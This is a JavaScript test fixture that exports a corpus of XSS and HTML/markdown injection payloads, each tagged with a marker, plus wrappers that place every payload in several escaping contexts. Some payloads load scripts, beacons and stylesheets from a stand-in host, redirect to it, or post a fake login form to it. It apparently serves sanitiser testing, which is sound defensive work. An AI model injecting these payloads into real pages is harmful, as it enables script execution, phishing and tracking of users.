// Texts that an attacker may bring into memory to run a script in the console, to load something from another host, or to mislead
// readers. Every one contains MARK, so that a test sees that the page shows it.

/** Part of every hostile text. */
export const MARK = 'owl-pellet';
/** The host that they try to reach. */
export const ELSEWHERE = 'https://hostile.example';

/** Breaks out of an attribute, a tag and a script at once; short enough for a name. */
export const NAME = `${MARK}"'><img src=x onerror=alert(1)><script>alert(1)</script>{{7*7}}`;

/** The corpus. */
export const TEXTS = [
  '<script>alert(1)</script>',
  `<script src="${ELSEWHERE}/a.js"></script>`,
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '<img src=x onerror=alert(1)>',
  `<img src="${ELSEWHERE}/beacon.png">`,
  `![beacon](${ELSEWHERE}/beacon.png)`,
  `![a][b]\n\n[b]: ${ELSEWHERE}/reference.png`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  `<iframe src="${ELSEWHERE}"></iframe>`,
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  `<object data="${ELSEWHERE}/o"></object><embed src="${ELSEWHERE}/e">`,
  `<link rel=stylesheet href="${ELSEWHERE}/s.css">`,
  `<style>@import "${ELSEWHERE}/s.css"; body { display: none }</style>`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action="${ELSEWHERE}"><button autofocus>Log in again</button></form>`,
  '<details open ontoggle=alert(1)><summary>open</summary></details>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">read more</a>',
  '[read more](javascript:alert(1))',
  '[read more](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  `<${'div '.repeat(1)}style="position:fixed;inset:0;background:url(${ELSEWHERE}/x.png)">covered</div>`,
  '<div hx-get="/logout" hx-trigger="load">swapped</div>',
  '<div id="content" data-poll="2" data-copy="keys-help">the same id twice</div>',
  '</textarea><script>alert(1)</script>',
  '</title></head><body onload=alert(1)>',
  '<!--><script>alert(1)</script-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '{{constructor.constructor("alert(1)")()}} {% include "x" %} ${alert(1)}',
  'abc\u202Egnp.exe\u202C \u2066hidden\u2069 zero\u200Bwidth\u2060\uFEFF tag\u{E0041}\u{E0042}',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E;',
].map((text) => `${MARK} ${text}`);

/** The contexts of a text: plain, escaping an attribute and a comment, as code in two ways, as link text, in capitals. */
const DRESSES = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `--> ${text} <!--`,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `\`${text}\``,
  (text) => `[${text}](${ELSEWHERE}/link)`,
  (text) => text.replace(/<\/?[a-z]+|\bon[a-z]+=|javascript:/g, (word) => word.toUpperCase()),
];

/** The corpus in every context: the content of files. */
export const DRESSED = DRESSES.flatMap((dress) => TEXTS.map((text) => dress(text)));
